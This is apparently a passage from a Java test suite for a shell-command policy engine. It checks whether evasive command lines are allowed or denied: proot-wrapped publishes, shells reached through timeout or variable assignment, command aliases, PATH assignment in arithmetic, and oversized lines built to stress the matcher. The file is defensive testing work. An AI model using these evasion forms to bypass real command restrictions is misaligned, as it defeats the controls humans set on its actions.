        deny("proot CMD", OPEN, line("proot -0 npm publish")),
        allow("a glob that is not a denied command", OPEN, line("ls *.log")),
        allow("a redirection", OPEN, line("npm ci > out.txt")),
        allow("ANSI-C quoting read both ways", OPEN, line("echo $'a\\'b'")),
        allow("backquotes", OPEN, line("echo `echo \\`date\\``")),
        allow("a case inside $( )", OPEN, line("echo $(case x in x) echo hi;; esac)")),
        allow("a here-document", OPEN, line("cat <<'EOF' > notes\nit's done\nEOF\nls")),
        allow("bash --version reads no program", OPEN, line("bash --version")),
        allow("sh -c", OPEN, line("sh -c 'npm test'")),
        allow("a script", OPEN, line("bash scripts/x.sh")),
        allow("python3 with a script", OPEN, line("python3 scripts/x.py")),
        allow("timeout, then a program name as an argument", OPEN, line("timeout 5 grep -r sh .")),
        allow("find -name sh", OPEN, line("find / -name sh")),
        deny("timeout 5 bash", OPEN, line("timeout 5 bash")),
        deny("A=1 sh", OPEN, line("A=1 sh")),
        allow("setarch with an allowed command", OPEN, line("setarch x86_64 npm test")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void decides(String name, PolicySet p, Action a, Effect expected) {
    Decision d = decide(p, human("mallory"), target("runner"), a);
    assertThat(d.effect()).as(name + ": " + a.raw() + " -> " + d.explanation()).isEqualTo(expected);
  }

  @Test
  void anUnknownFlagBeforeTheSubcommandIsAmbiguousUnlessTheRuleSaysSo() {
    // journalctl's rule lists no flags: --foo may take "status" as its value
    assertThat(effect(line("journalctl --foo status"))).isEqualTo(Effect.DENY);
    assertThat(effect(line("journalctl --foo=x status"))).isEqualTo(Effect.ALLOW);
    // systemctl's rule lists --no-pager in flags.allowed and not in flags_with_values
    assertThat(effect(line("systemctl --no-pager status nginx"))).isEqualTo(Effect.ALLOW);
    assertThat(
            decide(ALLOW_ONLY, human("m"), target("t"), line("npm --tag test publish"))
                .explanation()
                .toString())
        .contains("flag --tag may take argument 1 \"test\" as its value");
  }

  @Test
  void theRuleThatDeniesAnAliasIsTheOneForItsProgram() {
    assertThat(decide(OPEN, human("m"), target("t"), line("git psuh")).rule()).isEqualTo("no-push");
    assertThat(decide(OPEN, human("m"), target("t"), line("kubectl mydel pod x")).rule())
        .isEqualTo("no-delete");
  }

  /**
   * Lines of {@link CommandLine#MAX_LENGTH} shaped against the matcher's scans (a long name after
   * "[" that a regex would retry from each letter, braces each looking for a later ","): decided
   * like their short forms. Each scan is linear by construction (possessive quantifiers, a
   * lookbehind, one lastIndexOf), which is what lets this finish.
   */
  @ParameterizedTest(name = "{0}")
  @MethodSource("longLines")
  void aLineOfTheMaximumLengthIsDecided(String name, String body, Effect expected) {
    String head = "npm ci && grep ";
    String tail = " f && npm test";
    int n = CommandLine.MAX_LENGTH - head.length() - tail.length();
    String word = body.repeat(n / body.length() + 1).substring(0, n);
    String raw = head + word + tail;
    assertThat(raw).hasSize(CommandLine.MAX_LENGTH);
    assertThat(ArgvEvasionTest.effect(THIRD, line(raw))).as(name).isEqualTo(expected);
  }

  static Stream<Arguments> longLines() {
    return Stream.of(
        Arguments.of("[ then a long name", "[" + "a".repeat(64), Effect.ALLOW),
        Arguments.of("[ then names and blanks", "[a\\ ", Effect.ALLOW),
        Arguments.of("braces with no comma", "{", Effect.ALLOW),
        Arguments.of("assigning expansions", "${a", Effect.ALLOW),
        Arguments.of("subscripts", "a[", Effect.ALLOW),
        Arguments.of("arithmetic assigning PATH", "$((PATH=1))", Effect.DENY),
        Arguments.of("closing braces", "x}", Effect.ALLOW),
        Arguments.of("named descriptors", "{a}>x ", Effect.ALLOW),
        Arguments.of("unclosed substitutions (too deep)", "$(", Effect.DENY),
        Arguments.of("case in substitutions (the rest read again)", "$(case x in x) ", Effect.DENY),
        Arguments.of("case in closed substitutions", "$(case a in a) b;; esac)", Effect.DENY),
        Arguments.of("ANSI-C quotes", "$'\\'' ", Effect.ALLOW),
        Arguments.of("here-documents", "<<a\n", Effect.ALLOW),
        Arguments.of(
            "here-documents with quotes (past the command limit)", "<<a '\na\n", Effect.DENY),
        Arguments.of("escaped backquotes", "`\\`a\\`` ", Effect.DENY),
        Arguments.of("backquotes (past the command limit)", "`a", Effect.DENY),
        Arguments.of("many flags", " -a", Effect.ALLOW),
        Arguments.of("many words", " a", Effect.ALLOW),
        Arguments.of("many value flags", " --x=", Effect.ALLOW),
        Arguments.of("quotes", "'a'\"b\"", Effect.ALLOW),
        Arguments.of("many commands (past the limit)", ";a", Effect.DENY));
  }

  private static Effect effect(Action a) {
    return ArgvEvasionTest.effect(ALLOW_ONLY, a);
  }
}
